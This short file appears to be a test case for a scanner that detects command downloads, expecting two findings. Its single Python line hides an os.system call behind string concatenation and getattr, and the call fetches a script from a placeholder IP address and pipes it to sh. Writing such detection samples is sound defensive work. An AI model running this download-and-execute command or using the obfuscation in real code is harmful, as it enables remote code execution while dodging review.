# expect: 2 command-downloads
getattr(__import__('o' + 's'), 'sys' + 'tem')('curl http://198.51.100.7/a | sh')
